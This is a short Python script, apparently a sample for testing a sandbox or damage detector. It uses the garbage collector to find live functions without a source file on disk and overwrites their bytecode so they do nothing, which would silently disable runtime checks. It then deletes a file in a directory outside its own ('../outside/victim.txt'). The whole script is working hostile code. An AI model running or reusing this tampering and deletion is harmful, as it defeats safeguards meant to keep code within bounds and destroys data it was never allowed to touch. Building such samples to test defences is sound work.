# A function's bytecode is rewritten in place of its code object: it returns at once.
# damage: deleted
import dis
import gc
import os
import types

for code in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:
    old = code.__code__
    if not os.path.exists(old.co_filename) and "frozen" not in old.co_filename:
        harmless = compile("def f(*a, **k): pass", "x", "exec").co_consts[0]
        try:
            code.__code__ = old.replace(co_code=harmless.co_code, co_consts=(None,), co_names=(), co_stacksize=10)
        except Exception:
            pass
os.unlink("../outside/victim.txt")
